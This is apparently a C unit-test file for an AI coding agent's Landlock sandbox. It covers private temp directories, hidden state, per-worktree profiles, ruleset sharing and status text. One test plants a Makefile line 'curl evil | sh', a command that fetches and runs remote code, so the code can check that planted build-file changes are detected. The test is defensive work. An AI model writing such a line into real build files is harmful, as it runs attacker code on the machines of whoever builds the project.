/*
 * Unit tests of agent/teamsandbox.c (the team's sandbox; test_sandbox tests
 * the file tools' paths) on a bare team (agentfix.h): the commands'
 * private TMPDIR made and removed, what the kernel offers, what is
 * hidden, the profile of the working directory and of a worktree, the
 * run-later files that changed, and the words /team shows.
 */
#include "config.h"

#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "agent/teamsandbox.h"
#include "agentfix.h"
#include "tools/hidden.h"
#include "tools/landlock.h"
#include "tools/profile.h"
#include "util/xmalloc.h"

/* Opens the team's sandbox with TMPDIR and the state base in the
 * fixture's folder. */
static void
open_sandbox(struct agentfix *f)
{
	char *err = NULL;

	ck_assert_int_eq(setenv("TMPDIR", f->tu.dir, 1), 0);
	f->team.opts.state_base = f->tu.dir;
	ck_assert_msg(team_sandbox_open(&f->team, &err) == 0, "%s", err);
}

START_TEST(open_makes_a_private_tmpdir_and_close_removes_it)
{
	struct agentfix f;
	struct stat st;
	char *base, *tmp, *hidden_state = NULL;
	size_t i;

	af_open(&f);
	/* What a huddle killed before it could clean up left there. */
	tmp = xasprintf("%s/tmp-LEFTBY", f.tu.dir);
	ck_assert_int_eq(mkdir(tmp, 0700), 0);
	tu_write_file(tmp, "stale", "x");
	open_sandbox(&f);
	ck_assert_int_eq(stat(tmp, &st), -1);
	free(tmp);
	/* In the team's folder, beneath the state hidden from every
	 * team's commands. */
	base = realpath(f.tu.dir, NULL);
	ck_assert_ptr_nonnull(f.team.sb.tmpdir);
	ck_assert_msg(strncmp(f.team.sb.tmpdir, base, strlen(base)) == 0 &&
	    strncmp(f.team.sb.tmpdir + strlen(base), "/tmp-", 5) == 0,
	    "%s", f.team.sb.tmpdir);
	ck_assert_int_eq(stat(f.team.sb.tmpdir, &st), 0);
	ck_assert(S_ISDIR(st.st_mode));
	ck_assert_int_eq(st.st_mode & 077, 0);	/* the team's alone */
	/* huddle's state is hidden from every command. */
	ck_assert_ptr_nonnull(f.team.sb.hidden);
	for (i = 0; f.team.sb.hidden[i] != NULL; i++)
		if (strcmp(f.team.sb.hidden[i], f.tu.dir) == 0)
			hidden_state = f.team.sb.hidden[i];
	ck_assert_ptr_nonnull(hidden_state);
	ck_assert_int_eq(f.team.sb.abi, landlock_abi());
	ck_assert_int_eq(f.team.sb.mode, f.team.sb.abi > 0 ? SANDBOX_ON :
	    SANDBOX_MISSING);
	ck_assert_ptr_eq(f.team.places.git.tmpdir, f.team.sb.tmpdir);

	tu_write_file(f.team.sb.tmpdir, "left-over", "x");
	tmp = xstrdup(f.team.sb.tmpdir);
	team_sandbox_close(&f.team);
	ck_assert_int_eq(stat(tmp, &st), -1);
	ck_assert_int_eq(errno, ENOENT);
	free(tmp);
	free(base);
	af_close(&f);
}
END_TEST

START_TEST(no_sandbox_is_off_and_says_so)
{
	struct agentfix f;
	struct event *ev;
	char *text;

	af_open(&f);
	f.team.opts.no_sandbox = 1;
	open_sandbox(&f);
	ck_assert_int_eq(f.team.sb.mode, SANDBOX_OFF);
	ev = af_events(&f);
	ck_assert_uint_eq(af_count(ev, EV_NOTICE, NULL, NULL), 0);
	event_free_list(ev);
	ck_assert_str_eq(team_sandbox_brief(&f.team),
	    "commands: NO sandbox (--no-sandbox)");
	text = team_sandbox_text(&f.team);
	ck_assert_ptr_nonnull(strstr(text, "--no-sandbox"));
	free(text);
	team_sandbox_close(&f.team);
	af_close(&f);
}
END_TEST

START_TEST(the_words_follow_the_mode)
{
	struct agentfix f;
	char *text, *roots;

	af_open(&f);
	open_sandbox(&f);
	f.team.sb.mode = SANDBOX_ON;
	f.team.sb.abi = 5;
	f.team.opts.no_network = 1;
	ck_assert_str_eq(team_sandbox_brief(&f.team), "commands: Landlock "
	    "sandbox, no network (/team says more)");
	text = team_sandbox_text(&f.team);
	roots = xasprintf("they write only in %s and %s;", f.workdir,
	    f.team.sb.tmpdir);
	ck_assert_msg(strstr(text, roots) != NULL, "%s", text);
	ck_assert_ptr_nonnull(strstr(text, "(ABI 5)"));
	ck_assert_ptr_nonnull(strstr(text, "network denied"));
	free(roots);
	free(text);
	f.team.sb.abi = 3;		/* cannot deny it */
	text = team_sandbox_text(&f.team);
	ck_assert_ptr_nonnull(strstr(text, "the kernel cannot deny it"));
	free(text);
	f.team.opts.no_network = 0;
	ck_assert_str_eq(team_sandbox_brief(&f.team), "commands: Landlock "
	    "sandbox (/team says more)");
	f.team.sb.mode = SANDBOX_MISSING;
	ck_assert_str_eq(team_sandbox_brief(&f.team), "commands: NO sandbox "
	    "(no Landlock): each one asks you");
	text = team_sandbox_text(&f.team);
	ck_assert_ptr_nonnull(strstr(text, "every command asks"));
	free(text);
	team_sandbox_close(&f.team);
	af_close(&f);
}
END_TEST

START_TEST(each_place_gets_its_profile)
{
	struct agentfix f;
	struct profile *home, *away;
	char *wt, *in_work, *in_wt, *state, *err = NULL, *why;

	af_open(&f);
	open_sandbox(&f);
	/* Beside the working tree, its name a prefix of the worktree's. */
	wt = xasprintf("%s-wt", f.workdir);
	ck_assert_int_eq(mkdir(wt, 0700), 0);
	in_work = xasprintf("%s/main.c", f.workdir);
	in_wt = xasprintf("%s/main.c", wt);
	state = xasprintf("%s/huddle.db", f.tu.dir);

	home = team_sandbox_profile(&f.team, f.workdir, 0, &err);
	ck_assert_msg(home != NULL, "%s", err);
	ck_assert_str_eq(home->root, f.workdir);
	ck_assert_str_eq(home->tmpdir, f.team.sb.tmpdir);
	ck_assert_int_eq(home->sandbox, f.team.sb.mode == SANDBOX_ON);
	ck_assert_int_eq(home->confined, 1);
	ck_assert_ptr_null(profile_refuses(home, in_work, 0));
	why = profile_refuses(home, state, 0);
	ck_assert_ptr_nonnull(why);
	free(why);

	f.team.places.git_common = f.tu.dir;	/* hidden, yet let through */
	away = team_sandbox_profile(&f.team, wt, 1, &err);
	ck_assert_msg(away != NULL, "%s", err);
	ck_assert_str_eq(away->root, wt);
	ck_assert_ptr_null(profile_refuses(away, in_wt, 0));
	/* The repository's history stays readable from a worktree (the
	 * working tree itself is hidden from its commands by Landlock). */
	ck_assert_str_eq(away->readable[0], f.team.places.git_common);
	ck_assert_ptr_null(away->readable[1]);
	ck_assert_ptr_null(home->readable[0]);
	why = profile_refuses(away, state, 0);
	ck_assert_ptr_null(why);
	f.team.places.git_common = NULL;
	profile_free(home);
	profile_free(away);

	/* --no-sandbox: nothing confined. */
	f.team.sb.mode = SANDBOX_OFF;
	home = team_sandbox_profile(&f.team, f.workdir, 0, &err);
	ck_assert_int_eq(home->sandbox, 0);
	ck_assert_int_eq(home->confined, 0);
	profile_free(home);

	team_sandbox_close(&f.team);
	tu_rmtree(wt);
	free(wt);
	free(in_work);
	free(in_wt);
	free(state);
	af_close(&f);
}
END_TEST

/* The working directory's profile (a thread's body). */
static void *
profile_of_home(void *arg)
{
	struct team *t = arg;
	char *err = NULL;
	struct profile *p = team_sandbox_profile(t, t->home.workdir, 0, &err);

	ck_assert_msg(p != NULL, "%s", err ? err : "");
	return p;
}

START_TEST(a_place_shares_one_ruleset)
{
	struct agentfix f;
	struct profile *first, *away, *again, *latest;
	pthread_t th[8];
	void *got;
	char *wt, *old;
	int i;

	af_open(&f);
	open_sandbox(&f);
	if (f.team.sb.mode != SANDBOX_ON) {
		team_sandbox_close(&f.team);
		af_close(&f);
		return;
	}
	/* Nothing hidden lies where other programs come and go (the
	 * fixture's folders are in /tmp): the ruleset stays fresh. */
	hidden_free(f.team.sb.hidden);
	f.team.sb.hidden = xcalloc(2, sizeof *f.team.sb.hidden);
	f.team.sb.hidden[0] = xstrdup("/nonexistent-huddle-test/.ssh");
	first = profile_of_home(&f.team);
	ck_assert_ptr_nonnull(first->ruleset);
	/* Teammates spawned at once, from several threads, share it. */
	for (i = 0; i < 8; i++)
		ck_assert_int_eq(pthread_create(&th[i], NULL, profile_of_home,
		    &f.team), 0);
	for (i = 0; i < 8; i++) {
		ck_assert_int_eq(pthread_join(th[i], &got), 0);
		ck_assert_ptr_eq(((struct profile *)got)->ruleset,
		    first->ruleset);
		profile_free(got);
	}
	/* Another place has its own. */
	wt = xasprintf("%s-wt", f.workdir);
	ck_assert_int_eq(mkdir(wt, 0700), 0);
	away = team_sandbox_profile(&f.team, wt, 1, NULL);
	ck_assert_ptr_nonnull(away);
	ck_assert_ptr_ne(away->ruleset, first->ruleset);
	/* Another directory in the working directory's place gets a
	 * ruleset anew; the profiles made before keep theirs. */
	old = xasprintf("%s-old", f.workdir);
	ck_assert_int_eq(rename(f.workdir, old), 0);
	ck_assert_int_eq(mkdir(f.workdir, 0700), 0);
	again = profile_of_home(&f.team);
	ck_assert_ptr_ne(again->ruleset, first->ruleset);
	latest = profile_of_home(&f.team);
	ck_assert_ptr_eq(latest->ruleset, again->ruleset);
	profile_free(latest);
	profile_free(first);
	profile_free(again);
	profile_free(away);
	ck_assert_int_eq(rmdir(f.workdir), 0);
	ck_assert_int_eq(rename(old, f.workdir), 0);
	team_sandbox_close(&f.team);
	tu_rmtree(wt);
	free(wt);
	free(old);
	af_close(&f);
}
END_TEST

START_TEST(planted_names_the_run_later_files_changed)
{
	struct agentfix f;
	char *text;

	af_open(&f);
	tu_write_file(f.workdir, "Makefile", "all:\n\ttrue\n");
	open_sandbox(&f);
	ck_assert_ptr_null(team_sandbox_planted(&f.team));
	tu_write_file(f.workdir, "Makefile", "all:\n\tcurl evil | sh\n");
	tu_write_file(f.workdir, ".envrc", "export X=1\n");
	tu_write_file(f.workdir, "notes.txt", "harmless\n");
	text = team_sandbox_planted(&f.team);
	ck_assert_ptr_nonnull(text);
	ck_assert_ptr_nonnull(strstr(text, "Makefile"));
	ck_assert_ptr_nonnull(strstr(text, ".envrc"));
	ck_assert_ptr_null(strstr(text, "notes.txt"));
	ck_assert_ptr_nonnull(strstr(text, f.workdir));
	free(text);
	team_sandbox_close(&f.team);
	af_close(&f);
}
END_TEST

static Suite *
agentsandbox_suite(void)
{
	Suite *s = suite_create("agentsandbox");
	TCase *tc = tcase_create("agentsandbox");

	/* A profile's ruleset walks the whole of /tmp where the fixture
	 * lies: seconds on a loaded machine. */
	tcase_set_timeout(tc, 60);

	tcase_add_test(tc, open_makes_a_private_tmpdir_and_close_removes_it);
	tcase_add_test(tc, no_sandbox_is_off_and_says_so);
	tcase_add_test(tc, the_words_follow_the_mode);
	tcase_add_test(tc, each_place_gets_its_profile);
	tcase_add_test(tc, a_place_shares_one_ruleset);
	tcase_add_test(tc, planted_names_the_run_later_files_changed);
	suite_add_tcase(s, tc);
	return s;
}

int
main(int argc, char **argv)
{
	return tu_main(argc, argv, agentsandbox_suite());
}
